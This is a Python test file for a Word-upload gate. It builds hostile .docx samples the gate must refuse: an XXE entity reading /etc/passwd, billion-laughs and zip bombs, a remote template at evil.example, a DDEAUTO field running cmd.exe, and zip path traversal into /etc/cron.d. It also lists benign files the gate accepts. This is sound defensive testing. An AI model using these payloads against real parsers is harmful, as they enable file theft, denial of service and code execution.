"""Word files that nobody should open, and those that everybody sends."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document
from docx.shared import Cm
from PIL import Image

from bidapp.files.docx_gate import check_docx
from bidapp.files.docx_package import LARGEST_BYTES, LARGEST_XML, MOST_PARTS
from bidapp.files.docx_text import pages_said, text_of
from bidapp.files.refusals import DocumentRefused
from tests.documents.word_builders import a_rich_outline, write_word
from tests.files.packages import (
    FIRST_RELATIONSHIPS,
    MAIN,
    TYPES,
    W,
    a_docx,
    a_word_file,
    char,
    field_over_runs,
    related,
    zipped,
)

ENTITY = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
BODY = f"<w:document {W}><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_MAIN = MAIN.replace("document.main", "template.main")
BIN = '<Default Extension="bin" ContentType="application/vnd.{}"/>'


def document(xml, encoding="utf-8"):
    return ("word/document.xml", xml.encode(encoding))


def padded(xml, size):
    """The document with white space behind it, of exactly this size."""
    return document(xml + " " * (size - len(xml)))


def many(count):
    """So many elements, unlike enough that the file is no bomb."""
    return "".join(f'<w:p w:a="{n * 7919 % 99_991}"/>' for n in range(count))


HOSTILE = {
    "a zip bomb": (lambda: a_docx(parts=[("word/media/x.png", bytes(30_000_000))]), "unpacks to"),
    "an XML part over 10 MiB": (
        lambda: a_docx(parts=[noisy(LARGEST_XML + 1)]),
        "unpacks to",
    ),
    "more than 300,000 elements": (lambda: a_docx(many(300_001)), "unpacks to"),
    "elements 300 deep": (lambda: a_docx("<w:p>" * 300 + "</w:p>" * 300), "unpacks to"),
    "an external entity": (lambda: a_docx(parts=[document(ENTITY + BODY)]), "does not write"),
    "an external entity in UTF-16": (
        lambda: a_docx(
            parts=[document('<?xml version="1.0" encoding="UTF-16"?>' + ENTITY + BODY, "utf-16")]
        ),
        "does not write",
    ),
    "a billion laughs": (lambda: a_docx(parts=[document(LAUGHS + BODY)]), "does not write"),
    "a document type in the relationships": (
        lambda: a_docx(parts=[("_rels/.rels", ENTITY + FIRST_RELATIONSHIPS)]),
        "does not write",
    ),
    "UTF-7": (
        lambda: a_docx(parts=[document('<?xml version="1.0" encoding="UTF-7"?>' + BODY)]),
        "does not write|damaged",
    ),
    "macros": (
        lambda: a_docx(
            parts=[("word/vbaProject.bin", b"x")], more=BIN.format("ms-office.vbaProject")
        ),
        "holds macros. Save it as an ordinary Word document or PDF",
    ),
    "macros nobody declared": (
        lambda: a_docx(parts=[("word/vbaProject.bin", b"x")]),
        "holds macros",
    ),
    "macros under another name": (
        lambda: a_docx(parts=[("word/x.bin", b"x")], more=BIN.format("ms-office.vbaProject")),
        "holds macros",
    ),
    "a macro-enabled document": (lambda: a_docx(main=MACRO_MAIN), "holds macros"),
    "a template": (lambda: a_docx(main=TEMPLATE_MAIN), "is a Word template"),
    "ActiveX": (
        lambda: a_docx(parts=[("word/activeX/activeX1.xml", "<x/>")]),
        "controls that run programs",
    ),
    "a control in the text": (
        lambda: a_docx('<w:p><w:r><w:control w:name="x"/></w:r></w:p>'),
        "controls that run programs",
    ),
    "an OLE object": (
        lambda: a_docx(
            parts=[("word/embeddings/oleObject1.bin", b"x")],
            more=BIN.format("openxmlformats-officedocument.oleObject"),
        ),
        "another file inside it",
    ),
    "the workbook of a chart": (
        lambda: a_docx(parts=[("word/embeddings/sheet.xlsx", b"x")]),
        "the workbook of a chart. Save it as PDF",
    ),
    "a program of an unknown kind": (
        lambda: a_docx(
            parts=[("word/x.exe", b"MZ")],
            more='<Default Extension="exe" ContentType="application/octet-stream"/>',
        ),
        "another file inside it",
    ),
    "a template elsewhere": (
        lambda: a_docx(parts=[related("attachedTemplate", "http://evil.example/x.dotm")]),
        "fetches something from elsewhere",
    ),
    "a picture on a file server": (
        lambda: a_docx(parts=[related("image", r"\\10.0.0.1\share\x.png")]),
        "linked picture. Save it as PDF",
    ),
    "a picture in old drawing language": (
        lambda: a_docx(
            '<w:p><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="//evil/x.png"/></w:p>'
        ),
        "fetches something from elsewhere",
    ),
    "a link to a file": (
        lambda: a_docx(parts=[related("hyperlink", "file:///etc/passwd")]),
        "fetches something from elsewhere",
    ),
    "an outside target that does not say so": (
        lambda: a_docx(parts=[related("image", "http://evil.example/x.png", mode="")]),
        "fetches something from elsewhere",
    ),
    "another document in its midst": (
        lambda: a_docx('<w:altChunk xmlns:r="x" r:id="r1"/>'),
        "another file inside it",
    ),
    "DDEAUTO over three runs": (
        lambda: a_docx(field_over_runs("DD", "EAU", 'TO c:\\\\cmd.exe "/k calc"')),
        "fetches or runs something",
    ),
    "DDE without an end": (
        lambda: a_docx(f"<w:p>{char('begin')}<w:r><w:instrText>DDE x</w:instrText></w:r></w:p>"),
        "fetches or runs something",
    ),
    "DDE made by other fields": (
        lambda: a_docx(
            f"<w:p>{char('begin')}{field_over_runs('QUOTE 68 68 69')[5:-6]}"
            f"<w:r><w:instrText> c:\\\\x</w:instrText></w:r>{char('end')}</w:p>"
        ),
        "fetches or runs something",
    ),
    "INCLUDEPICTURE": (
        lambda: a_docx(field_over_runs('INCLUDEPICTURE "http://evil.example/x.png"')),
        "INCLUDEPICTURE",
    ),
    "INCLUDETEXT in one tag": (
        lambda: a_docx(r'<w:p><w:fldSimple w:instr=" includetext c:\\x "/></w:p>'),
        "fetches or runs something",
    ),
    "a link field to a file server": (
        lambda: a_docx(field_over_runs("HYPER", r'LINK "\\evil\x"')),
        "link to a file on another computer",
    ),
    "a name that climbs out": (
        lambda: a_docx(parts=[("../../etc/cron.d/x", "x")]),
        "does not write",
    ),
    "a name from the root": (lambda: a_docx(parts=[("/etc/x", "x")]), "does not write"),
    "a name with a backslash": (lambda: a_docx(parts=[("word\\..\\x", "x")]), "does not write"),
    "the same name twice": (
        lambda: a_docx(parts=[("word/x.xml", "<x/>"), ("WORD/X.XML", "<y/>")]),
        "does not write",
    ),
    "3,000 parts": (
        lambda: a_docx(parts=[(f"word/media/{n}.png", "x") for n in range(3_000)]),
        "unpacks to",
    ),
    "another kind of package": (lambda: a_docx(main="application/xml"), "not a Word document"),
    "a zip of something": (lambda: zipped([("x.txt", "x")]), "not a Word document"),
    "half a file": (lambda: a_word_file()[:-500], "damaged"),
    "a file with a byte changed": (lambda: spoiled(a_word_file()), "damaged"),
    "a claim to be small": (lambda: lying(a_docx(many(100_000))), "damaged"),
    "a picture": (lambda: a_picture(), "not a Word document"),
    "nothing": (lambda: b"", "The file is empty"),
}  # fmt: skip


def noisy(size):
    """An XML part of this size that does not pack well enough to be told by its ratio."""
    numbers = "".join(f'<w:p w:id="{(n * 7919) % 1_000_003}"/>' for n in range(size // 40))
    body = f"<w:document {W}><w:body>{numbers}</w:body></w:document>"
    return padded(body, size)


def spoiled(content):
    at = content.index(b"word/document.xml") + 60
    return content[:at] + bytes([content[at] ^ 255]) + content[at + 1 :]


def lying(content):
    """The sizes in the directory made small."""
    with ZipFile(BytesIO(content)) as package:
        size = package.getinfo("word/document.xml").file_size
    return content.replace(size.to_bytes(4, "little"), (64).to_bytes(4, "little"))


def a_picture(kind="PNG"):
    out = BytesIO()
    Image.new("RGB", (40, 30), "teal").save(out, kind)
    return out.getvalue()


@pytest.mark.parametrize("what", HOSTILE)
def test_it_refuses(what):
    make, sentence = HOSTILE[what]
    with pytest.raises(DocumentRefused, match=sentence):
        check_docx(make())


def with_a_table(document):
    document.add_table(3, 3).cell(0, 0).text = "What"


def with_a_picture(document):
    document.add_picture(BytesIO(a_picture("JPEG")), width=Cm(3))
    document.sections[0].header.paragraphs[0].text = "Sea Trust"


HONEST = {
    "one from python-docx": lambda: a_word_file(),
    "one with a table": lambda: a_word_file(save=with_a_table),
    "one with a logo and a header": lambda: a_word_file(save=with_a_picture),
    "the document of a bid": lambda: write_word(a_rich_outline()),
    "a link to a page": lambda: a_docx(parts=[related("hyperlink", "HTTPS://example.org/")]),
    "a telephone number": lambda: a_docx(parts=[related("hyperlink", "tel:+441160000000")]),
    "a mail address in a field": lambda: a_docx(
        field_over_runs("HYPERLINK ", '"mailto:a@example.org"')
    ),
    "a link inside the document": lambda: a_docx(field_over_runs(r"HYPERLINK \l ", '"_Toc1"')),
    "page numbers and a date": lambda: a_docx(
        field_over_runs("PA", "GE") + field_over_runs(' DATE \\@ "d MMMM yyyy" ')
    ),
    "an empty field": lambda: a_docx(field_over_runs("")),
    "fields of a mail merge inside one another": lambda: a_docx(
        f"<w:p>{char('begin')}<w:r><w:instrText>IF </w:instrText></w:r>"
        f"{field_over_runs('MERGEFIELD Rank')[5:-6]}"
        f"<w:r><w:instrText> = x</w:instrText></w:r>{char('end')}</w:p>"
    ),
    "its label of sensitivity": lambda: a_docx(
        parts=[("docMetadata/LabelInfo.xml", "<labelList/>")]
    ),
    "its folders as entries": lambda: a_docx(parts=[("word/", "")]),
    "drawings in old language": lambda: a_docx(
        parts=[("word/drawings/vmlDrawing1.vml", "<xml/>")],
        more=BIN.replace("bin", "vml").format("openxmlformats-officedocument.vmlDrawing"),
    ),
    "letters of its own": lambda: a_docx(
        parts=[("word/fonts/font1.odttf", b"x")],
        more='<Default Extension="odttf" '
        'ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>',
    ),
    "300,000 elements less the package's own": lambda: a_docx(many(299_990)),
}  # fmt: skip


@pytest.mark.parametrize("what", HONEST)
def test_it_takes(what):
    assert "word/document.xml" in check_docx(HONEST[what]())


def test_a_file_of_8_megabytes_is_read_and_one_byte_more_is_not():
    filler = 8_000_000 - len(padded_docx(0))
    assert len(padded_docx(filler)) == LARGEST_BYTES
    assert check_docx(padded_docx(filler))
    with pytest.raises(DocumentRefused, match="larger than 8 MB"):
        check_docx(padded_docx(filler + 1))


def padded_docx(filler):
    """A Word file with a picture of this many bytes that is kept as it is."""
    out = BytesIO(a_docx(more='<Default Extension="png" ContentType="image/png"/>'))
    with ZipFile(out, "a") as package:
        package.writestr("word/media/x.png", bytes(filler))
    return out.getvalue()


def test_an_xml_part_of_10_megabytes_is_read():
    assert check_docx(a_docx(parts=[noisy(LARGEST_XML)]))


def test_as_many_parts_as_the_limit_are_read():
    extra = MOST_PARTS - 3
    assert check_docx(a_docx(parts=[(f"word/media/{n}.png", "x") for n in range(extra)]))


def test_the_text_reads_as_on_paper():
    content = a_word_file("Dear all,\tgood morning", save=with_a_picture)
    lines = text_of(check_docx(content)).split("\n")
    assert lines[0] == "Sea Trust"
    assert "Dear all,\tgood morning" in lines


def test_what_is_crossed_out_is_not_read():
    body = (
        "<w:p><w:del><w:r><w:delText>ten</w:delText></w:r></w:del>"
        "<w:ins><w:r><w:t>twenty</w:t></w:r></w:ins></w:p>"
    )
    assert text_of(check_docx(a_docx(body))).strip() == "twenty"


def test_a_text_box_is_read_once():
    box = "<w:txbxContent><w:p><w:r><w:t>In a box</w:t></w:r></w:p></w:txbxContent>"
    mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    both = f"<mc:Choice>{box}</mc:Choice><mc:Fallback>{box}</mc:Fallback>"
    body = f"<w:p><w:r><mc:AlternateContent {mc}>{both}</mc:AlternateContent></w:r></w:p>"
    assert text_of(check_docx(a_docx(body))).count("In a box") == 1


@pytest.mark.parametrize(
    ("said", "pages"), [("<Pages>3</Pages>", 3), ("<Pages>-1</Pages>", None), ("", None)]
)
def test_the_pages_are_those_its_program_counted(said, pages):
    facts = f"<Properties>{said}</Properties>"
    assert pages_said(check_docx(a_docx(parts=[("docProps/app.xml", facts)]))) == pages


def test_without_facts_about_itself_nobody_knows_its_pages():
    assert pages_said(check_docx(a_docx())) is None


def test_a_strict_document_is_read_too():
    strict = BODY.replace(
        "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        "http://purl.oclc.org/ooxml/wordprocessingml/main",
    )
    relationships = FIRST_RELATIONSHIPS.replace(
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
        "http://purl.oclc.org/ooxml/officeDocument/relationships",
    )
    content = a_docx(parts=[document(strict), ("_rels/.rels", relationships)])
    assert text_of(check_docx(content)).strip() == "x"


def test_a_file_packed_in_a_way_of_its_own_is_refused():
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", TYPES.format(more="", main=MAIN), compress_type=14)
    with pytest.raises(DocumentRefused, match="does not write"):
        check_docx(out.getvalue())


def test_what_the_gate_takes_python_docx_opens():
    assert Document(BytesIO(a_docx())).paragraphs[0].text == "Dear all"
